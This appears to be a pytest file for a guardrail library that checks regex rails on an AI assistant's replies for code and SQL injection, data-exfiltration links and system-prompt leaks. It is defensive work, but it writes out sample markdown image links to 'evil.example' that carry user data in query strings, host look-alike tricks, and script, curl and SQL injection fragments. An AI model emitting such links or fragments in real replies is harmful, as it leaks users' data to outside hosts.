"""The patterns on replies: what they stop, what they leave alone, and how long they take."""

from __future__ import annotations

import re
import time
from functools import cache
from typing import Any

import pytest

from guardlint.policy.documents import read_document
from guardlint.policy.filling import filled
from guardlint.policy.rails import load_rail
from guardlint.resources import resource_dir

RAILS = ("code-and-sql-injection", "exfiltration-links", "system-prompt-leak")
CANARY = "kestrel-0000-lantern"


@cache
def patterns(rail: str) -> list[re.Pattern[str]]:
    """As NeMo compiles them, the canary set and all other settings as they are by default."""
    return compiled(rail, {"canary": CANARY})


def compiled(rail: str, chosen: dict[str, Any]) -> list[re.Pattern[str]]:
    """The patterns with what a policy chose of the settings."""
    read = load_rail(resource_dir("rails") / rail)
    settings = {name: setting.default for name, setting in read.settings.items()} | chosen
    options = filled(read.directions["output"].config, settings)["regex_detection"]["output"]
    assert options["case_insensitive"] is True
    return [re.compile(text, re.IGNORECASE) for text in options["patterns"]]


@cache
def replies(rail: str, about: str) -> list[str]:
    cases: list[dict[str, Any]] = read_document(
        resource_dir("rails") / rail / "tests.yml", "rail-tests"
    ).data["cases"]
    return [case["reply"] for case in cases if case["about"] == about and "settings" not in case]


def hits(rail: str, text: str) -> list[int]:
    return [number for number, pattern in enumerate(patterns(rail)) if pattern.search(text)]


@pytest.mark.parametrize("rail", RAILS)
def test_benign_suite_is_large_enough_and_untouched(rail: str) -> None:
    """At least 20 replies that look dangerous and are not, none of them blocked, in capitals neither."""
    benign = replies(rail, "benign")
    assert len(benign) >= 20
    assert [] == [text for text in benign if hits(rail, text) or hits(rail, f"Of course. {text}")]


@pytest.mark.parametrize("rail", RAILS)
def test_benign_replies_of_the_other_rails_pass_too(rail: str) -> None:
    """A policy lists the three together."""
    others = [text for other in RAILS if other != rail for text in replies(other, "benign")]
    assert [] == [text for text in others if hits(rail, text)]


@pytest.mark.parametrize("rail", RAILS)
def test_every_pattern_is_needed(rail: str) -> None:
    """Each pattern stops a reply of the suite, so none is dead; the canary has a test of its own."""
    found = {number for text in replies(rail, "attack") for number in hits(rail, text)}
    canary = {number for number, pattern in enumerate(patterns(rail)) if pattern.pattern == CANARY}
    assert set(range(len(patterns(rail)))) - canary == found


@pytest.mark.parametrize("rail", RAILS)
def test_attack_inside_a_long_reply(rail: str) -> None:
    """An attack is found in the middle of an ordinary reply, at a new line."""
    around = "Your card was declined at the shop.\n{}\nThank you and goodbye."
    assert [] == [text for text in replies(rail, "attack") if not hits(rail, around.format(text))]


def test_canary_blocks_wherever_it_stands_and_nothing_by_default() -> None:
    """The phrase of a policy is found in any case; without one the pattern matches no text at all."""
    assert hits("system-prompt-leak", f"I should not say {CANARY.upper()}, should I?")
    default = load_rail(resource_dir("rails") / "system-prompt-leak").settings["canary"].default
    assert not any(re.search(default, text) for text in ("", "a", "\n", "(?!)"))


@pytest.mark.parametrize("rail", RAILS)
@pytest.mark.parametrize(
    "unit",
    [
        "![",
        "![a]",
        "![a](https://a",
        "https://a?b=",
        "<img src=",
        "\n[a]: https://a? ",
        "//a.",
        "%20",
        "<script>",
        "curl a ",
        "0; ",
        "' or ",
        "union/**/",
        "{{ a",
        "you are an assistant ",
        "my system prompt ",
        "i was given ",
    ],
)
def test_no_reply_makes_a_pattern_run_for_long(rail: str, unit: str) -> None:
    """30,000 characters of half a match cost well below two seconds over all patterns together."""
    text = unit * (30_000 // len(unit))
    started = time.process_time()
    hits(rail, text)
    assert time.process_time() - started < 2.0


OWN = {"own_hosts": ["bank.example", "cdn.example"]}


@pytest.mark.parametrize(
    ("chosen", "reply", "blocked"),
    [
        ({}, "![a](https://img.bank.example/a.png?d=Anna+owes+900)", True),
        (OWN, "![a](https://img.bank.example/a.png?d=Anna+owes+900)", False),
        (OWN, "![a](https://bank.example:8443?d=Anna+owes+900)", False),
        (OWN, '<iframe src="https://bank.example/form"></iframe>', False),
        (OWN, "https://bank.example/s?conversation=Anna-owes-900", False),
        (OWN, "![a](https://bank.example.evil.example/a.png?d=Anna+owes+900)", True),
        (OWN, "![a](https://notbank.example/a.png?d=Anna+owes+900)", True),
        (OWN, "![a](https://bank.example@evil.example/a.png?d=Anna+owes+900)", True),
        (OWN, "![a](https://bank.example:x@evil.example/a.png?d=Anna+owes+900)", True),
        (OWN, "![a](https://evil.example/bank.example/a.png?d=Anna+owes+900)", True),
        (OWN, "![a](https://evil.example/?u=//bank.example/&d=Anna+owes+900)", True),
        (OWN, "![a](https://evil.example/logo.png)", False),
        ({**OWN, "foreign_images": "block"}, "![a](https://evil.example/logo.png)", True),
        ({**OWN, "foreign_images": "block"}, "![a][1]\n\n[1]: https://evil.example/logo.png", True),
        ({**OWN, "foreign_images": "block"}, "<img src='//evil.example/logo.png'>", True),
        ({**OWN, "foreign_images": "block"}, "![a](https://cdn.example/logo.png)", False),
        ({**OWN, "foreign_images": "block"}, "![a](/static/logo.png) and https://evil.example/page", False),
        ({"foreign_images": "block"}, "![a](https://cdn.example/logo.png)", True),
    ],
)
def test_hosts_of_the_company(chosen: dict[str, Any], reply: str, blocked: bool) -> None:
    """What a policy lists may carry anything; look-alikes, other users and paths of its name may not."""
    found = [pattern.pattern for pattern in compiled("exfiltration-links", chosen) if pattern.search(reply)]
    assert blocked == bool(found)
